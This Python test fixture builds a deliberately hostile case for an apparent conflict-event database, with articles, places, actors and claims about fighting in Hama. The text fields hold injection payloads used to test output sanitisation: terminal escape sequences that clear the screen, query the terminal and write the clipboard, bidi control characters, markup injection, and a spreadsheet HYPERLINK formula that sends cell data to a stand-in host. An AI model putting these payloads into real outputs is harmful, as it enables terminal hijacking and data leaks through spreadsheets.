"""A small case in which every text from outside is an attack."""

from collections.abc import Iterable, Iterator
from pathlib import Path

from store.document.snapshot import write_case
from store.model.judgements import Kinship, KinshipKind
from store.model.records import (
    SCHEMA,
    Actor,
    AnyRecord,
    Article,
    Case,
    Claim,
    DataSet,
    Event,
    Passage,
    Place,
    Source,
    Stamp,
)
from store.model.text import text_hash
from store.model.values import Control, Count, Participant, When, Where
from store.model.vocabulary import (
    ActorKind,
    ControlState,
    DateBasis,
    EventType,
    Kind,
    PlaceKind,
    Qualifier,
    Role,
    SourceKind,
    Stance,
    TextKind,
)

C0 = "".join(chr(code) for code in range(0x20))
C1 = "".join(chr(code) for code in range(0x7F, 0xA0))
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SEPARATORS = "\u2028\u2029"
SEQUENCES = (
    "\x1b[2J\x1b[c"  # clears the screen, and makes the terminal answer as if typed
    "\x1b]0;title\x07\x1b]52;c;Y2F0\x1b\\"  # writes its title and the clipboard
    "\x1bP+q544e\x1b\\\x9b31m\x90q\x9c"  # the same in C1
)
MARKUP = "[/] [bold]we [the army] [@click=app.bell]fired[/] [link=x]"
HARM = C0 + C1 + BIDI + SEPARATORS + SEQUENCES + MARKUP

NEVER_RAW = frozenset((C0 + C1 + BIDI + SEPARATORS).replace("\n", "").replace("\t", ""))
"""The characters that no output may contain; LF and TAB are used for layout."""

FORMULA = '=HYPERLINK("http://x.example?"&A1;"click")'
TEXT = f"First line.\n\tHama fell, {HARM} they said.\n@SUM(1) حماة 哈馬 e\u0301 end."

EVENT = "evt_aaaaaaaaaaaa"
WHOLE = "evt_bbbbbbbbbbbb"
ARTICLE = "art_aaaaaaaaaaaa"
HEADLINE = "art_bbbbbbbbbbbb"


def hostile_records() -> Iterator[tuple[str, AnyRecord]]:
    """The `(table, record)` pairs of the case."""
    yield "case", Case(id="case_hostile", schema=SCHEMA, name="hostile", title=HARM)
    yield from _register()
    title = FORMULA + HARM
    yield (
        "articles",
        Article(
            id=ARTICLE,
            title=title,
            publisher=None,
            text_kind=TextKind.FULL,
            text=TEXT,
            text_sha256=text_hash(TEXT),
            published=Stamp(at="2024-12-05T10:00Z", printed=HARM),
            url=HARM,
            note=HARM,
        ),
    )
    yield (
        "articles",
        Article(id=HEADLINE, title=title, publisher="src_paper", text_kind=TextKind.HEADLINE),
    )
    yield "passages", _passage("psg_text", ARTICLE, TEXT, 13, 13 + 12 + len(HARM))
    yield "passages", _passage("psg_title", HEADLINE, title, 0, len(title), in_title=True)
    yield "events", Event(id=WHOLE, title=f"-2+3 {HARM}", type=EventType.OFFENSIVE)
    yield (
        "events",
        Event(id=EVENT, title=FORMULA + HARM, type=EventType.CAPTURE, part_of=WHOLE, note=HARM),
    )
    yield from (("claims", claim) for claim in _claims())
    yield (
        "kinships",
        Kinship(
            id="kin_aaaaaaaaaaaa",
            about=ARTICLE,
            other=HEADLINE,
            by=HARM,
            at="2026-01-01T00:00:00Z",
            verdict=KinshipKind.APART,
            reason=FORMULA + HARM,
        ),
    )


def _register() -> Iterator[tuple[str, AnyRecord]]:
    rows = DataSet(id="dst_rows", name=f"=rows {HARM}", version=HARM, licence=HARM, citation=HARM)
    yield "datasets", rows
    yield (
        "actors",
        Actor(
            id="act_rebels",
            name=f"+rebels {HARM}",
            kind=ActorKind.COALITION,
            aliases=(HARM, "the [rebels]"),
        ),
    )
    yield (
        "places",
        Place(
            id="plc_hama",
            name=f"-Hama {HARM}",
            kind=PlaceKind.CITY,
            precision=1,
            latitude=35.13,
            longitude=36.75,
        ),
    )
    yield (
        "places",
        Place(
            id="plc_south",
            name="Southern province",
            kind=PlaceKind.PROVINCE,
            precision=4,
            latitude=-12.5,
            longitude=-70.25,
        ),
    )
    yield "sources", Source(id="src_paper", name=f"@paper {HARM}", kind=SourceKind.OUTLET)
    yield "sources", Source(id="src_sohr", name="SOHR", kind=SourceKind.MONITOR)


def _passage(
    id_: str, article: str, text: str, start: int, end: int, *, in_title: bool = False
) -> Passage:
    return Passage(
        id=id_,
        article=article,
        start=start,
        end=end,
        exact=text[start:end],
        text_sha256=text_hash(text),
        in_title=in_title,
    )


def _claims() -> Iterable[Claim]:
    said = {"subject": EVENT, "passage": "psg_text", "chain": ("src_sohr",)}
    yield Claim(id="clm_1", kind=Kind.OCCURRENCE, **said)  # type: ignore[arg-type]
    yield Claim(
        id="clm_2",
        kind=Kind.DATE,
        value=When(
            edtf="2024-12-05", printed=f"on Thursday{HARM}", basis=DateBasis.RELATIVE_TO_PUBLICATION
        ),
        **said,  # type: ignore[arg-type]
    )
    yield Claim(id="clm_3", kind=Kind.PLACE, value=Where(place="plc_hama"), **said)  # type: ignore[arg-type]
    yield Claim(
        id="clm_4",
        kind=Kind.PARTICIPANT,
        value=Participant(actor="act_rebels", role=Role.ATTACKER),
        **said,  # type: ignore[arg-type]
    )
    yield Claim(
        id="clm_5",
        kind=Kind.FATALITIES,
        value=Count(min=24, printed="dozens", qualifier=Qualifier.DOZENS),
        scope=HARM,
        as_of=When(edtf="2024-12-04"),
        note=HARM,
        **said,  # type: ignore[arg-type]
    )
    yield Claim(
        id="clm_6",
        kind=Kind.CONTROL,
        value=Control(holder="act_rebels", state=ControlState.ENTERED),
        **said,  # type: ignore[arg-type]
    )
    yield Claim(
        id="clm_7",
        subject=EVENT,
        kind=Kind.OCCURRENCE,
        passage="psg_title",
        stance=Stance.DENIES,
    )
    yield Claim(
        id="clm_8",
        subject=WHOLE,
        kind=Kind.PLACE,
        value=Where(place="plc_south"),
        passage="psg_title",
    )


def hostile_case(path: Path) -> Path:
    """Write the case to `path`."""
    write_case(path, hostile_records())
    return path
